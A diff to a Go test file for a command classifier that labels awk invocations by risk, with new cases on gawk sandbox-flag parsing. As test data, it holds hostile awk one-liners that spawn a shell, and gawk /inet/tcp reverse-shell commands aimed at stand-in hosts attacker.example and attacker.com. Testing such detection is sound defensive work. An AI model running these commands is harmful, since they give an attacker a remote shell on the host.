@@ -60,6 +60,20 @@ func TestAwkCalls(t *testing.T) {
 		{cmd: `mawk 'BEGIN{system("/bin/sh")}'`, want: []string{"remote-exec"}},
 		{cmd: `awk --sandbox 'BEGIN{system("id")}'`, want: []string{"remote-exec"}},
 		{cmd: `gawk -F -S 'BEGIN{system(x)}'`, want: []string{"remote-exec"}},
+		// gawk's sandbox in every spelling its getopt_long takes, on every
+		// route; after the program text, or under another awk, it is none.
+		{cmd: `/usr/bin/gawk --sandbox 'BEGIN{system("id")}'`, readOnly: true},
+		{cmd: `command gawk --sand 'BEGIN{system("id")}'`, readOnly: true},
+		{cmd: `nice gawk -bS '{print | "sh"}' f`, readOnly: true},
+		{cmd: `gawk -F: -S '{print > "out.txt"}' f`, readOnly: true},
+		{cmd: `gawk -W sandbox 'BEGIN{system("id")}'`},
+		{cmd: `gawk -Wsa 'BEGIN{system("id")}'`},
+		{cmd: `gawk 'BEGIN{system("id")}' --sandbox`, want: []string{"remote-exec"}},
+		{cmd: `gawk -- 'BEGIN{system("id")}' -S`, want: []string{"remote-exec"}},
+		{cmd: `gawk --s 'BEGIN{system("id")}'`, want: []string{"remote-exec"}},
+		{cmd: `gawk -W source 'BEGIN{system("id")}'`, want: []string{"remote-exec"}},
+		{cmd: `mawk -W sandbox 'BEGIN{system("id")}'`, want: []string{"remote-exec"}},
+		{cmd: `nawk -S 'BEGIN{system("id")}'`, want: []string{"remote-exec"}},
 		// The network.
 		{cmd: `gawk 'BEGIN {s="/inet/tcp/0/attacker.example/4444"; print "x" |& s}'`, want: []string{"remote-access"}},
 		{cmd: `gawk 'BEGIN { s = "/inet/tcp/0/attacker.com/12345"; while (1) {printf "> " |& s; if ((s |& getline c) <= 0) break; while (c && (c |& getline) > 0) print $0 |& s; close(c)}}'`,
